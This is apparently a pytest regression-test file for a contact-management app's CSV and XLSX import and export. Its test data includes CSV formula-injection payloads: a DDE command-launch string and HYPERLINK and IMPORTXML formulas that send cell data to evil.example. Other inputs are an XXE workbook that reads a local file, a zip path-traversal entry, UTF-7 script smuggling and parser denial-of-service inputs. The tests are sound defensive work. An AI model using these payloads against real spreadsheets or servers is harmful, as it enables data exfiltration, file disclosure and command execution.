"""Reports about CSV: formulas in exported cells, and files that are no tables."""

from __future__ import annotations

import csv
import zipfile
from collections.abc import Callable
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from webtest.forms import Upload

from masthead import Instance
from masthead.cli import main
from masthead.testing import Client

IMPORT, CONTACTS = "/api/staff/contacts/bulk-import", "/api/staff/contacts"
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
]


@pytest.fixture
def send(editor: Client) -> Callable[..., Any]:
    """Return a function that imports a file of contacts and returns the answer."""

    def post(content: bytes, status: Any = 200, **fields: str) -> Any:
        form = {"file": Upload("a.csv", content, "text/csv"), **fields}
        return editor.post(IMPORT, form, status=status).json

    return post


@pytest.mark.parametrize("formula", FORMULAS)
def test_cve_2022_28481_no_exported_cell_is_a_formula(
    editor: Client, database_url: str, instance: Instance, formula: str
) -> None:
    """CVE-2022-28481 (CSV-Safe): cells that begin with some characters ran as formulas."""
    editor.post_json(CONTACTS, {"name": formula, "notes": formula, "tags": [formula]})
    environ = {"MASTHEAD_DATABASE_URL": database_url, "MASTHEAD_DATA": str(instance.data)}

    done = CliRunner().invoke(main, ["contacts", "export", "--spreadsheet-safe"], env=environ)

    cells = [cell for row in csv.reader(StringIO(done.stdout)) for cell in row]
    assert any(formula.strip() in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in cells)


def test_cwe_1236_an_imported_formula_stays_text(send: Any, editor: Client) -> None:
    """CWE-1236: a formula in an imported file was evaluated, or lost its first characters."""
    rows = StringIO()
    csv.writer(rows).writerows([["name"], *([formula] for formula in FORMULAS)])

    assert send(rows.getvalue().encode())["errorCount"] == 0

    names = {contact["name"] for contact in editor.get(CONTACTS).json}
    assert names == {formula.strip() for formula in FORMULAS}


OOXML = "http://schemas.openxmlformats.org"
MAIN = f"{OOXML}/spreadsheetml/2006/main"
RELATIONS = f"{OOXML}/officeDocument/2006/relationships"


def relations(**targets: str) -> str:
    each = "".join(
        f'<Relationship Id="{kind}" Type="{RELATIONS}/{kind}" Target="{target}"/>'
        for kind, target in targets.items()
    )
    return f'<Relationships xmlns="{OOXML}/package/2006/relationships">{each}</Relationships>'


def workbook(secret: Path) -> bytes:
    """Return a workbook of contacts whose strings refer to a file."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>{n - 1}</v></c></row>' for n in (1, 2))
    files = {
        "[Content_Types].xml": f'<Types xmlns="{OOXML}/package/2006/content-types"/>',
        "_rels/.rels": relations(officeDocument="xl/workbook.xml"),
        "xl/_rels/workbook.xml.rels": relations(
            worksheet="worksheets/sheet1.xml", sharedStrings="sharedStrings.xml"
        ),
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets>'
        '<sheet name="A" sheetId="1" r:id="worksheet"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData>{cells}</sheetData>'
        "</worksheet>",
        "xl/sharedStrings.xml": f'<!DOCTYPE a [<!ENTITY b SYSTEM "{secret.as_uri()}">]>'
        f'<sst xmlns="{MAIN}"><si><t>name</t></si><si><t>Eve &b;</t></si></sst>',
        "../../evil.csv": "name\nEve\n",
    }
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def test_cve_2017_5992_a_workbook_reads_no_file_of_the_server(
    send: Any, editor: Client, tmp_path: Path
) -> None:
    """CVE-2017-5992 (openpyxl): entities of a workbook read files of the server."""
    secret = tmp_path / "secret"
    secret.write_text("hunter2")

    answer = send(workbook(secret), "*")

    assert answer.keys() & {"imported", "error"}
    assert "hunter2" not in f"{answer} {editor.get(CONTACTS).json}"


def test_cwe_838_only_encodings_of_files_are_decoded(send: Any) -> None:
    """CWE-838: a client chose an encoding in which harmless bytes were something else."""
    for charset in [
        "utf-7",
        "unicode_escape",
        "raw_unicode_escape",
        "idna",
        "zip",
        "rot13",
        "\0",
        "a" * 40,
    ]:
        assert "charset" in send(b"name\n+ADw-script+AD4-\n", 400, charset=charset)["error"]


@pytest.mark.parametrize(
    "content",
    [
        b"name\n" + b'"' * 200_001,
        b'name\n"' + b"a," * 200_000,
        b'name\n"' + b"\n" * 400_000,
        b"name" + b"," * 5_000 + b"\n",
        b"name\n" + b"a" * 1_200_000,
        b"name\n" + b"\r" * 400_000 + b"a",
        b"\0" * 10_000,
        b"name\na\0b\n",
    ],
    ids=["quotes", "open quote", "lines", "columns", "long", "returns", "nul", "nul in a cell"],
)
def test_cwe_407_odd_files_end(send: Any, content: bytes) -> None:
    """CWE-407: the time to find lines and quotes in a crafted file grew without bounds."""
    answer = send(content, [200, 400])

    assert "error" in answer or answer["success"] is True


def test_cwe_704_numbers_of_a_file_are_texts(send: Any, editor: Client) -> None:
    """CWE-704: telephone numbers and codes lost zeros, signs and digits when they were imported."""
    send(b"name,phone,notes\nAda,+44 020 7946 0018,1e5\nBob,007,0x10\n")

    bob, ada = editor.get(CONTACTS).json
    assert (ada["phone"], ada["notes"]) == ("+44 020 7946 0018", "1e5")
    assert (bob["phone"], bob["notes"]) == ("007", "0x10")
